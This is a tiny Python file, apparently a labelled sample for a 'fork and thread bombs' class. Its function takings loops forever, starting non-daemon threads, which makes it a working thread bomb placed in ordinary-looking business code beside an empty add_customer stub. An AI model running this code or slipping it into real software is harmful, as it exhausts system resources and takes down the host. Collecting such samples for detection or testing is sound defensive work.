"""Start threads without end.

Class: fork and thread bombs
"""

import threading
import time


def takings(conn):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=False).start()


def add_customer(engine, name):
    return None
